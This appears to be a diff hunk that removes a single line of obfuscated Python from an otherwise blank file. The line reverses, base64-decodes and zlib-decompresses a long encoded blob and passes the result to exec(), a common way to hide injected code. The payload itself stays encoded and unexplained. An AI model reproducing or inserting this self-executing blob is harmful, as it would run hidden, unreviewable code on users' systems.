@@ -1,3 +1,3 @@
 
                     
-_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'=oDhCr4P3vf//fRKeXPQOxyIBoN4DYod8FKLjFmVysLxnH9Ag+xN4F77F2ztk9SHZzLvgKYCoIKiTU5CM0Z/lVGzGZYDirQ4bzc5r8uKHjsDhyBEPDkRPfGT2dU5q9tEVDfJYiebisQzHHGeRiLgS8k799t1vwhavb8HB6CwZkphKJKs9X6pw7knms7NrQygBMggQJn4TTGck/QjvstboSXWvYO3gPrGbR8sv9CEgjD0O/qNwB1vHrweNcmy1mXJw84hRfzvx83rm/exCL2DDHkIYWz5a6zkF2pejntb2YA10knJ5IE23iZTX8blirR8duZR8P2kbcu62i/sVCU6mknPbno4GNURbsgh5ROh5RbQfTLgA6Szuilkr6oRfLNKY9ksSNhU3ihYfT33r5teR2/v7ox6vQEr4sy+tggZUtdUX/3trOSv4sVM8iwaa1yETfO45dBk4v+tRTBDuOLSU3t66qEFoI4Yji8BtVuzySGxSTugwFQEAGxOgMDONIWIDgCxErr5GSnKaFm16DQF1+dfCvMTo9YC0vkv7GnkuVH0xrvXvlDay4qvlbaDKHGBfyHhrGO15nenwe6GmYIvgmveMS16LgpCNpwvx0CfSUxtxSLBttsXZcHuOwW0eohXjxcrLY1GNN9Cha66SdQHYe7Zgm6raxtbK06Onj4xA0623tnD3edNq9ANz5V2Ik8uyhIKZidZmdNxHHJvmxITxYmlaTrJdFe2nv91zL0rdk5rFY9b1w5w5CiGRpZbMMvMRakZa/JTK7oNI+2+7rZWGktG/VBsYmzpwdmBS/kgK+qT0SodBls9es4uOVQvX+1ao38l7WKVnNdqTI3a7Cabks4Bzm4Dr82iiTsOH9CuAc7u6L/uKtjcEeZVEzKquuMYvTxFiEkpbF+uOyhZsZoY7/Msvsuwl9Og/6zpWYjcF/t8h1JqpXWMlLMD5mhfEMl8bZ/knLaUVsY7H7X5OjFcRyOgreNml4mEExkt55m5k1zMlsKjZaXu7JOXTnIDv86Spm5qGSnmzoc7xLHiopMmvQLwws9FcuOnFcCqxcsizJ74uMRjog63o9YvkIheyaFtS2HB21TLBx5QrCZ3zeVJMWOWIq0kUcaOWnCxmNXfzC9UQEth/7LI0Zf+5W5bZbE9SlxoSueP2gizFxR2H0XL6vGInZCzACIkwnnoyCtWSGOXeoquLJqaLLw3AHBqNwnddKmGDYZO/IAX0a0927OxLtxPC5K84I7URGRmBZGNKRWftL6U8iSv3HCnGwjKNQxCzPrLQ3c9rcq34ZBywSRel5GCRXY4kCMYr4kCjsvBB3Uer2+vy13C51qeqtVLUimDDljC6sxseXItx7SxBTMh2eQdEKJKTNZ8x+8F3k3Io4lbYY4gWVR+XTYThRP5rNPmSOnE+2Qgkvac4ne0Zzw96v8G0PUw2TdJ5Qa0sPmbiZUd3VhUkiHL/MC5rBC66Yv3SLPqZt4KgSAuUIy3wVkNM/0qqYy5YOw1XzxCC6ylriB04TVBhSK5t+0K4Ngrbg8pKywPlSuVmG/G1qq2u3eszYuYH4X8KzR/I0V0qpVaUoDZhhOMIFZuhPrZKf+Za5Eg3Nclc3dMiU7eMnGr03pwjkW8tU7qk6IxgfL8uW4zKeaOyKV8zlRe12hCV+WmQkg+C26jAu7c8qcSSPW2+U/RO9e0KlZ8nsxw4z5YwqbIq8b9UIPlFQrLOclbgr45ruGoQLy8DW6uOOxUSmV2r5kubkPlOXP0jefZrH0y/i+Bq3E09CeJvXNHuH5oaT+SA5wJHA19wevBLce0rtNg2frTxUGjz/p0aJ+8vE3iEHMctPErcnXSUFhUkROakmtfFeo+WE4L/J4ykoIT8lFFuKCJhLqH6gcTQ7x7jzCTbUI+WdPCpka41UfS133v7caAHseibssh0NGk5iy53ONIbFz1NK8pSblQhJgL0f/fUPniVHPEDz5RNwUhb1WT8CvTakV/p+IkY0P+mOHil4iArQFxP8AfLl2eDtHd2G8pvLRz/FWxHyfqiDbbxBxEaKX+V9YC91hfGg2c2VaVhOdzSeku1lf8sxsBlp51Zy/Acy31lYS1a7y+EkJKHJmZuXa2+4PTBI6WPDOSaaw5UYY/NlcDNjAteydLABBsxvo5Yx+5FFZN6GCwPSj47WkE/+SwYTf9ITkVK2/YPbLSMOCxaQBVwmuEsQ1U2KuqThnMgfb7tMBZ1mFq7rzcEilzjkrnI7hzmbU8rZxMmpU67l5zuAz+pWXITOAui4Xy7Nv/ZdReoJgAR0WCT0o/erXcMgKNQIrwqaKJYXMYeAmRco7WQbJc8wMeuREK5O1kgrv0V6DRAC1OP6xSCe9C4t1oyYDLao8p59zSQ9KLjgf32/g2vFzuXRX3ovCKDF6R2e16ySQ91HEiVEU4MGsG0i8FC1qdn38t0U7aW1o+Bie/lJlT3+n7UiP/5/Z8ZRDx5zxGE+mU9x/cHTja90lhVuE54HosUI0Lh/7hKW31jJPNEhhE7qrY1Q6Kp9wC131PgFbNclWVdalSthT1wjsKxDuXlGuYInLevYwhZjL+K7o2MkxJ0O1SQNIn+cm6pI5dUjW/0Vd5ypf1vspwPY0r3LE6voosk6G9O+MI99yU5DyiulDqppGID9e6QRYejXZuq9/KrDT8/umW15Mznlix0KJpao33qScZkp5T4BsgDC7sdLOvONsZE+QEGgIXh88L58wp4bWPfObM+/q2DlZvo2A3bLk8qodq8bEmeLm1CNRVyHdgkQMg5ny1BsfdUPf+PFYAYCtQSr2VsP0sOlT+u4Gqtay6Cmji9Ex2EmRAcYzfl5jvKw0nnR5wW+SAbSBovTcGffF4NHUDl5Kp4UiuuJuzio5sLv7TeAafo7EobUQ61IEUec6V11N27mztFojnfWMe0BYHR2a/wlYtMnGCQkybSY62+BaUxDIaDhu+n++voW8KJc8numPMvhm/PkyIY67VHa9KCKjJNqaNcS79trE+TiZ3iimQ3VIK2ZdgSJLcHvjG68pnXQYZP8bnTWCkUC8e1VRBqk9lxHmxl9PDpLFOhUjusq8B2aQVjVXpN50OTeDyqaUp8U+rcAK7qzfw1DvmtK8U0/Z9lLWMZtWw487UbVRPJf8NalQjrfO+6Pm+Oa21bz9cD9nLhfUt370cx5m9LPwdaSmPa0WzZCIQE4ZZZwYUVO6Gg0cI55iB3dv6VKywKCU3wVQoCPQ0tL5QDlrJJ+FV1QacDZuQdfiiVvNRDJVlMtFphjVJmHAEsapqnCitkvp9NKOKukYFyxTX5BSN2El5uCp3X9L1GU/TmxhYZ0LnKtXtHIVPjgq8vFeVywfCKns2w9bWjiWasT/nrhyBcbwFhOv1H5hy2jNTtsd0fYU4UXKMk91xzkazx9iEcqBEPjTvnj064MM+ue1n+EF8zfC1uaCaDjYX6mzjgGatu6OczbWKgVOBZi2F046gc/VfwFD2A1rLUhDHFL6OlnCfhEyhhm6uNqZsBO28epKqes0SQIBc1C19gIT+bpX5zqdUjVkb5gie9a6xhkly9BxKagRDMbduiG9TpMBK5pvwoM2UIFHx+SwhF24vYV9zNtLz6fh2VywGHH+E0NfX7UO3pEvBD12iCDE5vC3sgdC2TAIs+m9Kpv5He7usYNUj4k0fOxm4Y2v/r5m5nvOl1K7X4DlAg7KWcvrp9BvOA14EZ2A93CNY8FsYx5lN3D2H8mLgrOgvURD5f8WU6eG7uCAfWURMSTspCPdiRAPVnhT9jO1ylMoUrmY8jPWofNfeCZ+POMa/taPl3A1BO67LN3E0xw4pfQBIyenUb+hMqyVdoeH7EkSymNmGozyjPkHQ63DrVinMzY/GmAyd7Kz3kWED4JuLpZpDtcf45b90n91bGcB8utXZtbQyVJk25q4iaKsMOPGUcYTBN5ZHFJQfB51K6alnWL0f0B2pafEi2IAoX7ZW3bPLt7DaCiuyZ99sxbXbP8EnA3cyDY2oE4dRmzaFHKXn3wQ2kY/a+tEmwe46jq7i45rpDgVoqh1puEQmNeEdjupI5aPYobRkBJHKGZUNlHSWHTyRVUemjnj2zyPjGx4ZVZbPmb2Iyln4ri2v/oa5W4tSA/eGUPMoUnvFnfLjbxkhjxLdImg0so9hKw6+VYHHjscfcAPf5AyCV0xaOSo9zXqLs2n+xgtjhsRzOh/54dH6CYiuwiitAweOPNj8xTbWXRZKppVXRW5szf9T10peQvZPW16rBWJ9JDDURtHDXX37jiwg2JjQE+5AMpBmY9LYrFS9U3OOcWsYFRRlUQilCM6zn+Q6yDHY9GEWxrmPmG7CeO5hVPExTgmDcPr5shWoHIIhHybIvlkZgRtlSL9BQwQ2/hVkOJGGr814YchGm04Oc5SYjM2Y+xWYTbJOSjCrImFX+WA1/VcFTw7KEt4oXTUVZDgKFuW7rGO8Fr64OMs5DDb4rIgizvvwrqcCZKb383icsW2QH8yiMrrgw+Uqi5Ad09ZAyNwZ38TmYmmD7GdZTabf4XN5Ov8msjGip7d6I30Da6vvP2Mmi7bmzDyw9JiKtYIzmnrU3q2EwUr0zov3RFkJNteu7tkSNxjxPOHtF9PMAFbhOdriTplZr3H6RRwFjNBHL+hocGK+w962lNsApqbSa3Hqc7db3NmuQ1tHj/J0bwAKri8RLcrBMhy4X+uCTNcvRmvseO27+VwQ6S4wS4RCplnIqt08KIIUR99B977fyNe0UiNvGiwr3kMBee4xD63GMyy9WSqJar+K5akQL+stEB+CDwTt4HU64xJ+pJkk7yh9D8m45Rk8DVXVSoTCO+VTZUTImRBq1PzAw2RTh1XL/G7S702Q6StlhhpREswmf/R01Fdfnkd+gDiILbOSCXI3ww+90vmZUPIF/A9GDrDqMreUghDqB24m/pCtfULLjpYj8ErIwnem2p8sJTS6lNWYXxU89EsaoNZZWiuQnBjqYR7pe2osyv/eXUspUV9+wWM43tR+M+jFqSizd5iioxm2iUKs2+RLfkoSfFS/EjL5BX7e0RMQ2bxCK+L21Dv1aKsk4SklGoClsoTmhPJozODVdy0QDp7cyAL6Vb/JhFQgVzrqjDIbVfjYSWJd5bX/psIEaLgZ2tyjZcLzHJP4JIenEDuGKciXottrwmkyrGTqbc8yRe6jnT4uJkpeWPBsLh2KklpT0Uvbm2AlUvRIZqTKXttf/g5e9Z/D38ytnPdupOd9/mUEQTs1ya5mSqYyTFe19vFD+cG+CFpoO/Uybma2ZZD6T0YSNOs6/8iZZpHInHxWVKOtByO53QEMYPwXIe+CyTIkTHUYgBDyXU78D/uuBm1crbub61dazynE594sS0XLcN9fMsPijRpx+57SiWw1uJ1VBM/vM26yljOMGOLfyPD19bPzv2ESavrWd8PBpQgDkRW9cICK091K9HHEcmW6/TEOAP7DcszMDoh3e6RtA+5xh2wPU0LR/aDQDRGTre8BvDFX8Sfb+K0lWUvvnQnGxb4PEJDA3nil5pXUWQw4CSnSmEAtSQK1x77Ae2O1G4Q/b03mZVpZl1ajvFuA16AOcUGH38USi1ZI2e02YQftnW00iK34/W+xMrFK75MKCMDL5poU6FYxcXfoqDu0D0rj4zUwEt5DbxxfHliu36p1Fg+lLxtixGpiLgwKfRY8Az34wJI1KMTDX5hZH/kGSU9S6k/OHJrDqKcHdHosTI7myAOWfXkJ8dtiZJ3TRUZJATzEajTflknoFwfXYyyCqLz2jOw/b8GXr8zp9zGXcZb2Jke+zzBXaW4JELRmVcyK2xSrK5JKwmnu19T01PJVtkZFHsxMFVyVojO6ykJkf3Cc+eD7I40ymIbeCwnW7yXOX3t48H19h5EeZNLnipLSDQ9MWGdJr1GkaQbqNcs9beWOrVr/WuscFkyWwmgJIlyz5fOQoAyFxlZG7+aeoX3UbHzlt4ZwQ1mZJynqQQh60PLs5lJDDSqUeoUiUwX0Vy/JEHUrO7eB3hvUyKvqvJbxQ+TJdGnlj5+eEsyPW/PAXm6QOfdjrBgWCufSSl4JlA+5sENrAojmqEM7OCpIUUrO3M7Xi8EL+RYhTrlBrWwafrhiu1C4NbCX+Ay6/I0SPNKcogbEOvjnZOJAE1riHaZcbfoWviNi97agHvXZ93/5YrPT2F8pnanLvVEvAbMpM/LHr1raruDPY6j/s0gnxuBBtEhNpsD+5BHGJBp8d8RDRtciMshfAhIxOdGT6zKUZd9r99yzg+TlI5XQGO6RtD47QrkYL8imiEML8uSuw97jrLZj6YeUWOTkTLfVtvhfWkuyHu2Xi/9CBteH/sjsGX5cVHXpA7/Bmc9QYeUq/CWXq2YKWMsgZGOAHjJZvcTpaX4ydqD9MMDkpiNaSRZhhzlDwdtFtReIlMlQ3eEpl4WfBY60x5274nMRHKNrje/1Reom/ItVD/zr84IWmHA5AtYv324KT8BqvXxtayULcPQX2YGMqHxticugHBncUF3MN1LVwwNri3NqAy45J6N+3BAd1NfWNNBFI8OPCBIL51Y5uxxEhxj9vsL/qZNZtDmiVioFP3Fl/oXV7oQ69s0ogo7VLXnUgYij9UrDKSL7QRftzAQeV6qPvagGSltFPgu8pVi8Yo8uiEk9/3WrGOZym6nMGSuv3RP+fv8ovUyG9p3H1745jrPgAitmChi11dOaBG8uNV30OEklk3f1DcLZUnlmSPQrJz6inzadN9klUMS04Huwqz3MooATpbO8sSM9NGUHa7oZqofoknM6Sjs/ZAxNzBrADd6P/UV9kMqoXeMUHZS+OZ+o9QprSquYAuMUl32MDZeJ/gFVFLD+2tRCt9WEwefB6uzUF/QkPboNh+gB9sSxOEDYW4RnG2+QpI7pOOPu/028MZnyahWJeX4wJvww30hp+3svVi1dsh7CXDunnngzEp9p2/DA7cZXmKePOPn8xIjInJ1PSXJdHimRUWoJ3Y3R8MTh4y4Y0Q+a05DgB1con/0xk6JfyWYBtEEJCTOGM3moBPgnsF0oE2xav3og17p5b/rnn2WZXqETptP3qFiJZOjPiFXiU/H0CHYKlQWYvKm7U71E2HmZyZ1mbPegojVpPwi/BU9hSn/S0E6mhAXdbC3jjRPA+8Z6H+tFrxWTw339XCw5cRBvKZLJj8g2uJfNfr1p31ijF5oZrIazNH3BmXCmIF86JcOJ/XaC/KdsGDWN8IOHN18cwm1OTzHfEdba8LLLxydJ5qvaoqcirPAK+GrE/G4Pkx5daC6yhe+5oxhfSUbHPUB4Rw4BlylCujNiOjnfcmPbPvejfkILuB97kkftoo29T45cQO9rKJeOi58iF84ajxTrNkAfBH+de9ErqqE9qHJE3pBV9/5m70Z+jhdsLDTLOMHwSLUH83sxqz79u3gCfYqugYbNUKhdWPY8FZf6y/On9qXYE2vFRmXzTF1sxrhlAb2UTsywTvvfMy78CigYKIiGc6ZUByAXaR/24HDSfNGvo07T+cx4PvrVzs0zK0flTr+UQV+le3PNIOW69IT/ooGvjR9U0IOi2iu+PTGmkXIn2/918dsNeTlfTG8532GX19mgDbdzOhGIx6NCTimfjgGRO3aWZOPXA4d2y73pxSQ7nxwHAnXlwL8WFWeZyXeYki8KRms1twJC2qECaZe1uud9VPRF52qkY1HBlMVUQsy21ceUtTbENqNpliOt9oBNZoIkTK4lGcRIPDlRCDt6dOCNcirP6UsAU8rjmsfXu4E+N++J4G7UFtGMIQdowXkLiJO9YvxPmIoa3krtUyS/Ve9Kary0sw4aSv70vSdOy/ritx3WGu42HV6PCXNVlyf7BdP/I6Qt6Oo+7h7Ve4X+2eYYF8J0SqPPariU/+0yUcGp/TwTNtRG7cYaVkE28TWNTOtYeb2MF3ctQ0wsuB+kt1fghe8c2+TEizmzaTtTj2eKVhbBQQKQfvgVGDNVFbxGxi3MbWDwMNrZG/pCFrmohPJ6A4jzjrKKufXlcIhzrCNeNC28pVJZDYYxBV6ip3MZhbgNqzJmjhGp2wZn/CU+UzKOwMI7M1xCCUChEvhl/VFVe5Kd5sPhE2pGyj4ckFWLBBHADPVj6f3l7TIbg4g1as/WLLwYWgeByj5ASwInb6E3wqq/RFWklFKUaMquy+rlsU2ktKTVI44rbsSh3FPS1XNTm+2wGeDw5A2102J9scOxvg2x/p1zePIzS2p2WtCCZS/PTyiKzcg+Sy/UDM5d9kc/87YStHE7DI2RavbFmdOVWgWmHI5Iwsh95nPQIPx2/9zQZGKbCcQbCEZzBxUghJ7VosAsVLwBICTw5nh4QME9x48kjWgDedvaBq5YwYM+tY3UB0wkKZNNQisBhORmh57kIrrNFcAyfUhhg0XqHCVg2fnYKpO6dtxXXE5zq062Yhhf/r9HQckwR8REmzpTjbGDCDRF1WeuAYPlNnMWWhmxvSZimzIhRQ7ZxQ1VRnp5EyCaycN8Lo6kUV/+iptLQAJECKaYd8+QjYWTLFJEIirOGepULmA3WtTpcoJ+QnHaU975xOn07gpa1kF6qz9gfcoMwU2QqcywkrrhL5Ul1tG+47IdDkNvOYX9MPm6c5GgzKFAxft8X/Fj+oh8OgVK1ty2FDaFUpsk2BsVJRC7rA4rtRlLNOlgg3BnCwfXYK5HTIIVAQvI5iChPsd4GcTDp33WpvWOPuZ5Rvyc2dZZuW4xpaPphIOFhmDAYujSM7lR37oYORn8G7tw3Y1AgiQewtWYPqpb3fTXVn/j4OeB8KVRIK7wUgkQMjA2MPE9mVtGX1Tow7ntLnIFwLqmAlsxlkfrnvcl9oPqg4gw/L8XUJXCZbxJBeN/1JB2W1qXhAV3L/LT//bEau+54kzW1ES+rTRvasTXQHmd1y6FP3wieFIzg9rNb1s7sfiujNuqWSB/5qjF/gmGCL8fIlYPDKgi+/XXvdttQdTp2QHFkH+jpOxZ4fL4S41Oqkm74M4t9SbtXpGVn01Fn9XbE4SzpmpOP5jOU04Rlqp/tUgZQvOTeYQjHeEKPXdFaVD+UVINfGVlNJ/v9sv9j7bEqqq+YWbu6CkTHqn4DdDOriTniWOmIG4KQuVNqkSKSqPTF2dJHxP3rb3JEsgNk4Per3aPoc7cqzx25YTwnVm6DE+Wgieta9FYbjt6pjDc8pWXao8yLoXK+SYe7rnlfic5fxpnvf87CoC0EDsCf9Ca+glR32zvWwZsCIgQULZoAWdaqEM1gqoCVJmdvviaZ1ZGEqMLVPI1TIYH48WDRHHBQdd5nx6YL20Xizguk/8GfmyKsTL1932tcy47s6EXSodHdWEdyiZpbJpgPnUkCvJcCov3waQjlG38rbG4fCWyWY3okOZAOzck6J4Txdesakf0gI4+aIFKvrugIl/0KxMCdge3O6b+CzbgDWekK5zscgeX1jN6KXOE8//gb6mHi5uuxtj+iuY8+LAa5jEBFCXoAnZj03FQmhXWV9IW/JhBhqtHxOiOw4R2clC0bZkTjWRMslfLLHptekU0Jt/+0in9Of08yr5Qk5Cc3Zhxoo6UaQ9mtXgI91qtDH8J+popUX6hCWCVI9xD4A/Snpi83IKIbXNJ0cRXGal6vLA8p5emP+2HC3WcMNX4ULno9tng42rsmjJ0dmxeTThPOi/Hv+uWWMtvxe4gBPdJDTc9WhV/lVNbCdxePCsQf3e+U/Mj1Gm/1a6mX8YCGfuIYBfmoZQvLooDrxLVLtstnZOPnY6Mx/QIGRkZgwZBMCEDvCQHhSr35PFfMDV6EmgMt5/3c/2Btc89goJ1YbFAvLwOh/N8A+aiNjPx4b4Ls0vRro82wbP8Q8+gHDcrfgAwPDfwZX38w3Xub+o5JKteQmWYfGIdPlDCIw/M8N0xOdwpdQP4iPs4eUV/RSp2qNwLu3ymh24ealWiha9CGkiKLd9BPiseoi6K4xv+L3iFLZ+dutR19/QzElVIx5CfP8SzOsFgMmAmuLHfni9iwnOekS8Ds2bVBZomwpkRrzDwxcuFo1weQyIWH0ICR5x5A2qpqP1W8kP0MXlmqL4rWeyp4cGXmOht6TisXhlkcc9BxrcKkruTnabVJR3FUFU/+6V3YU3+MXjuWzVlvfckUEePVH2KCHOMXdZqXkooc+7SfG2uJ+/+7bvuZVrLIbVeqgf2RTJ9sKo4lgIWgGbnKu7cibPfVE8lQoDeAkyifN71iSnUmYGXuYc7r/FF6AGRONGwzX62hAbgvMEGb5m4hYv5kAkOC+nfRqumOvy8G/k8OotK72WtIomDhCRcacmGNbgJjLcOcBzLkqRsqkPb9BVoz5GZudJjUFdVCYdAIA17UFA7/SfIFu+b2v6iSBOx+UMWeQK3XPgKqMMvYqKJ6yG/P88MPzuB9SuPquQwQ5T0JTylVIjeGJAwC1UlyznNuN/M5tpqY9YZ6uSkYpld76/FYrDmn3zEz2wTZTgE7WRtlzYDIp58SSlpCOBrnHc4AapFJkN7SJEYLa44rGYgww0Yoc4msEbMDYA0VHDLKAb9G56TifkboaG9G8n9ciYQ9gQjfBjPTd+3yUAtQEpSgt5JZLHpJH/xztikIZxO1AvbwUSoGlkZ9kBaUU0faiu8HoZbD0FP2KgzuRhku0kW+u9Z41VxlGkgEcyn35CQTCN+yukpa1SCEbI5Airy0c97vDKJ/67XYG9rniLUmhHRquKBdke4n7yUIYuKBhjmMlAKZBgSF0wSZgLLqRn5gN+3TP+JIOVchbdV49YQSvKwPHH4v3fL0YcQlhlyCVjoEXmR+rDwo0V/U2o76fjuogeFpQiAEqXApa/BqfRrv+0IabzUKyaRzqzp1r/LoFzQuwV/NdhVFwnBIDPLoRZK0FCAkNj0YOTPsdafne3Dkrie9Pe88uv7+Nh6xYo/ShaO+zaVzdnVjjkBk9sXUFVgP3V1cC4G2Iv0vyL5WTLdW5nFdcGGbZX518yw//i4y2GhREqBX504UAIbr8mHYNAPyxiHN4X9Jte4pGS4iKpU9lpcLiQw0q8yynKzb4YjyHM8kKyO00f7bSR8N4nH0RAJ9uTBzqcSh+nTGLqlzVOp5/RG740GsH6K96keXdkBfniP3JsxkDadNNjK7KRlfe0OJRd724VOSedpnFWzupymRb7xyK9FJw10QNnybGuCsCxCvsVCQHFDosM3nXpS5Bdm6ksw8w1EyiIOHISEMwujrHKTaqDwD1H91p2Wx+eKMaSf6NT9BoWTfCr9qAwbg0PxDD6snEQMtTtkdIJS8iZU3zzTJavN5pNxJ4o3uKLcg9Js5W3kHai4/11mpF3XQn23iZ6rkx3eDxTjNL5D1BVpzftpZdbAAl/yzclwgpKB832i97Be2e+a2FJJMVLghvj1e2GZKUTyt7SIxMGCm+x9OCvJ8vdAuSizG3QXuk3kLQHwby0nYQFDmNGdGQUUJT4DUv71cqkSqQ+doAF/tyHo4InMZW/+e1ZLa2F0rZyfdFPDU9scGWvCZNztoaUsOuMv5+NdDxCkSOk8W4n1uti7lIL5HqIazeoLy1yyY2NJ1B8uW50nregErtYAcE68YiqvEHFsICUFN8Cz6agbKFbjjscIGNVf+ion3SyMW1glsPbd7V49SrU/EJqsp+nNuDQmpbkGu+JzFNCkQwDx+74nLH2c3xHCTmgmw6YT+9c5Gx7sNEEwvVHp2fIWy8dsUKIqOTzlMMuAMM4zZtxUT87iElxdutss+Uo79h58ytXbE/vKtJnFDVL1RvNv/iklNw9SADsb9I/yyIRrLYQAR4aVtxuKvan/yN3qAKdvCkdEo2JYXmTLQ0501rDI8o06b18zOvoXyjNfSvgeYTpQlrjjgtud+eRulROi1azMc5kHLICNHFOQatND2RktG7TCUROSY7u1qjkbDHvJQchZSAYOROX5O71JnlQy+YEHzdr0jPak22/kcFVm3dme4qaCFtlk5NZHER5u7cwNvH/VGIvpVkkCNz/BL+RoLh+vZhFmyuImCLbJm8IPrGmA4GLiH44zRju2zNjvFXvE4vPd5nvsfIDFuZGl5Vu19gaVu5I+H6/B8tJ2yPCCWwnpltVJc+CF8zImA6DD8BYHzTWFxo6lKlGdrAC0+daToCFw7KNx24NAg+hqupl6eLy1Hu9ijWjSuZhYE1ltixIWx3WjHEr/twQQb9IqmFQyrr12DPOQvT/P3NNQFDIyLADNaAnaSmYDQBnVF1/NBVf9XBf2MF9OooPV2yVFT35JQU9+RJypOPfE/FBs11sv/53aorNU4gIp5Wg8RxXIPu2iOfKBRhPi+/KSoELEmRFeklkkVzljtsXr3Mv5u+xrf8ZhukWOwt7HEzEVuuPm1TYjhN7ncNsdo+IE3mDOpV1zgrFnD7KNrDyHOhXtD6FR7MEYy3mnrF4xJEV+o9SqM/Yp3X/FRt2IVmuLE0pHM08288Arq2hqzXdRMZjlgVOI6cdFdyzYZgN0PuZaXrT8tt/8sOF/J4eIFZsItq8kt4F/wT/grCRRE71czW/GKQ6fqyWn8I80CbNX4GHlEtoMgdSw/AEIA8EN7zahx09UdhqmpdG6x+IY0D6aiLawgyZDInO7/tmm54tc0NfoKEnsOV0Zzo/uDh2lOmBRXWOBeOQD1WLGfKMYvDfJr1Z3DdJdxwif8+2DN2pbyCHvWyFZGrid4mU7sOm+I7f6v2bFlS4G9if5YbYcX06g489n98uGgZBbPPnCY8tHHTTgspgnuvUHj3Fw8eBej2p8o6fyY4K6vC4qJSGadDyrTJj3PLJyiURpp0axwzT0JD8ZDlALmpmbLFezpuwQ05g4+piRFQNnjL9dKS/XuFwb/ewrNsxEO8XyxQCdAHxvlAyuNtkT7r0MyrSK2TFyntPDDTXCapjdXpc2fuzMtMMTfdQBFfM+zsCDlQtGBjxdLndfArV5uLuR6Hcs7NLZvvD5O2Nxl+qarSrCoMtP/9qxmlTmmbGOGaYmBWOdz/poIWSdXLmzK+rgriWbxA7S6BQWktDyTaREpq+b/3tnhGet1HEOhBNEZxeCl2EkO83FnpbK3Av/lE7N5lF9Ovz/Mcg5QuqMAiKWWRBojkuWubK/BqntyUgjD7oB5VRtRHAN1OjaZ6Z18W/Oj3eR4Lz7uECDMtD7d/CHWaJd8Bbf/GEdmEeLP23sh0oFGNZZnYfzyiQ99oCDwVeAUaOA05Gu8TVroTJUTbBMoI+RqeBQo3JBWQJdKCh+6GYdWky1/OD82wcVGdnhzxwlPJvffXW1P6bSPFg1+79naFERLSp+V3918IjkLdU8a5zgcPUJCXwOITR1pegs/ibZWjyBXbomgIS/03raThNBm4PjFY4LH2hMst5g4OSDOv5Ixyof061ntiSpjGtgCXN3alr9Oew0lL7GlfLfhrhIM0wFRZDH8OQ6TfCRXNe9R/yFZrN+ZPa2/XmN+fO0nUZJnvGsxw9Msull1Utgm24gH4uwCbPcEneXlQZk966L9SEwmwKITX9bVBqUERCDpfE72XNIWe55Yg5AklXiDqxKOsUKhSb0v8vj1WfCa/+nUZPwTBjx8Sc4BGhXZdx5mBTj8XPP4ruC6RkxP+hViIcefCyDQza5G1kdo0VNASelXfXycxep+SydqXJYf+jLJi1ycjok9i3QJNwG+y86jFKnZ43DGePWM1GWvuShxqip+Om2TdpQDEAAEqEo6TWa/iY+1cqfSVC/+JsIOZfTLjJSsWIBYBk76LsyTPB/Owp5L2+H2EDa7KhcWSR+oWU/CqqQ5u1GoN6BHl044qD4OdOMU6kZZkC/dIpIul/HfB3Lpt3NKPIX6NR4BILNX+r0UA2rKaYCNDFiTeJ2amqCN2DVeX/JPwxS/l/7884AV6m8ID/44ZdqYOq/PHFR3oN2AzTYtd+HqyuWXDtrQx7ooKQVAk0mQXKKVAcgejrtuEFt1Bw4/cgylJeO/XopsrjeeBNha6oVOeleuOr7U9U1zpzqPsy4a+9IOi7Y9PiZyRBYm4Pl826QrJVZ+Ob2fjrHcUYw0CCTjWChz502g8B0iFvXSnQhY/oOz+08LMpJMLCavHkS2c3CmjGwEo+RzFVQd9MXFSQ8ZxIy7ZP76pjeufZCs7fVNa11F4d/eLOh11o4eRUSymlalhgHAiq1SOcBpvhJzrJX3pyLDaqgU0D5/MtvlnxKNMgKyWsvYK1YX+UTUVcu6rBxf/ZWy6J+H+MfLofzgnHQtnV6cwsiYk90XAUs8/Ewso3phNmkuZ8lfvshNVz6SLLdx6rba7PLKhUC8znIDah9OQpzoHSLW2L1JrAJQQwi7n9g/SnEn7S4P6lkMz3h78v+1SbmjDxP+YBLW7Fzf0FmpFuz/MWw6zZO6p/puFhu/yQ2Sw5/q0dC3THGqamKb/6338KlUCrVqpieejXjo8izvNytFxaUSRlG+5DQx2k+Y18qjDw46pBDYvVsQjtXfT+IW1LQiJB1hqZ93yaw7s8DoDDz2YhQAkISyKTMT5pgn409Ep4iJwqpWRnTgksM8VMJl55wt/WZH85GDx8cwfpQ8/p+cZkk/L9Xl2CgW8+W3FoXGSHDtslIefz6Y0KtvjR9KyEJOwTbNPY+ptOkkkwm4gKs0nxJ9vcUoEeVYmu5+KyjWZUOcBYywuAfjdp8Kwp3I43azIJFCyVKsInRGbitiUFyb/KadUaCtUutJen4sdUAi5vbKsR+aY/IJW5ZKHH+vQS/Ijj3QpojE+ELtuq8KcUD2Xe9bSajrn6PIe5tVrvByNC7PSlQNfDw88OKyO+PCNZ/1cceB/MUUZvzr9ZP48vtPWfDFY71v/jnaRwFp1UyUrjHNeh4PlsTb3E2bMu2ym6v/TH2sq1XM0WTLO0xKbUXN/VEapvnjKIU/kHPwuJsF0bpBHLV5NI2IOfEYL0ac8FnUG/mK7L3MAzQ4rh+aDwEY2NPfG5A7w2KR3EBakWGHvfRIK8esR6nUX1+6NxTU/0xcz8adXp0VW0gcnqhB3YvEt0tVoerQ0UZ9xtL4Ls26y9lMYR6qomoyhZz7hARk9+WWbDeWfZrSfh2JLH0xc0Q26PLf71cSlcC1wgA+RHepXRzrD4PNSIXXMxq6EyMa1k9iqhNxJml0Wz5BHX8MBj9twyc/gSVTsOJk88Pd+GcqeSQOdbOzbkgQmhM/mUTE9Z3FUxYc9zWqAyoRv2ADNfbPPgPqdjMngSWlIMTsil7/F30oi6h8piBBlXLyoOij02DBHLs1eswImLQZVBLmKnh5oqpvMJXav3GOi12EuirjE2uokWuWtTdtBVetYxerl6o+KG2tBlasfGJlVOjXoiM+SIzdmKkCA3DNokMk+XMPDIyb/H258Zhd9RF4PJHdHg5Wqadw6r8KYJGQPcfkkpq2H6rsb8jiqAPgijBGN1c6MfOj5Mk6YekckN3lXF3FzC1995v1Q6lCylqaeJhSYBPwjTehYJoit5xqHqMc4u9Q+mcZBQ9VuobmiCu+mBJ3D+CBBmK7NAKNx5DmOWgjaesWRiKP4eQkFzb/O1g6S2JyyqnjomjaY25+dLNsCi0vJga5hjXj8Q69v1bqpVOrHc0MFA3/WLfX7N9fnG3bdRmJ611VKI0X9meQCeoQQZzb2rhMQAM/hUpyHPbRsFBTr5TA3s5OyfcUxwARBsVeKDdYGXHJ3AHWYQZ6qP7wogthgw3TToDOIfdUqD1vTeqPGSdIIlAbj8av1r/y6zOS290/X1CQ57zJfgjHM/puIpVXfzzM8pZeh/4dlcZR4K1DLTmStRqvLj1JV2